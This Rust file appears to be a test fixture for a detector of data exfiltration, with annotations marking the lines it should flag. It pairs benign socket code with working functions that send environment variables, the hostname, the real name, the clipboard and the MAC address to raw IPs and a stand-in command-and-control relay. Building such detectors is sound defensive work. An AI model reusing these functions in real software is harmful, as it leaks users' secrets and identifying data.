//! Raw sockets and WebSockets used as exfiltration channels, next to honest socket
//! code (a local dev server, a metrics line protocol with fixed values).

use std::io::Write;
use std::net::{TcpStream, UdpSocket};
use tungstenite::Message;

pub fn tcp_dump() -> std::io::Result<()> {
    let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let mut stream = TcpStream::connect(("198.51.100.7", 443))?;
    stream.write_all(env.join("\n").as_bytes())?; //~ data-upload/env-vars-to-network
    Ok(())
}

pub fn tcp_dump_to_raw_ip() -> std::io::Result<()> {
    let mut conn = TcpStream::connect("185.212.47.9:1337")?; //~ data-upload/suspicious-destination
    let user = whoami::realname();
    writeln!(conn, "hello from {user}")?; //~ data-upload/device-id-to-network
    Ok(())
}

pub fn dns_like_beacon() -> std::io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    let host = whoami::hostname();
    let packet = format!("{host}.beacon");
    socket.send_to(packet.as_bytes(), "91.92.240.11:53")?; //~ data-upload/suspicious-destination data-upload/device-id-to-network
    Ok(())
}

pub fn websocket_stream() -> Result<(), tungstenite::Error> {
    let (mut socket, _response) = tungstenite::connect("wss://relay.example-c2.net/ws")?;
    let clip = arboard::Clipboard::new().unwrap().get_text().unwrap_or_default();
    socket.send(Message::Text(clip.into()))?; //~ data-upload/clipboard-to-network
    Ok(())
}

pub async fn websocket_async(url: &str) {
    let (mut ws, _) = tokio_tungstenite::connect_async(url).await.unwrap();
    let mac = mac_address::get_mac_address().unwrap().unwrap();
    let frame = Message::Text(mac.to_string().into());
    use futures_util::SinkExt;
    ws.send(frame).await.unwrap(); //~ data-upload/device-id-to-network
    let mac_again = mac_address::get_mac_address().unwrap().unwrap().to_string();
    ws.send(Message::Text(mac_again.into())).await.unwrap(); //~ data-upload/device-id-to-network
}

pub fn local_dev_server() -> std::io::Result<()> {
    // Loopback: not suspicious, and the payload is a constant.
    let mut stream = TcpStream::connect("127.0.0.1:8080")?;
    stream.write_all(b"GET /health HTTP/1.0\r\n\r\n")?;
    Ok(())
}

pub fn statsd_counter(requests: u64) -> std::io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    let line = format!("app.requests:{requests}|c");
    socket.send_to(line.as_bytes(), "10.0.0.12:8125")?;
    Ok(())
}

pub fn log_hostname_locally() {
    let host = whoami::hostname();
    let mut file = std::fs::File::create("/var/log/app/host").unwrap();
    file.write_all(host.as_bytes()).unwrap();
}
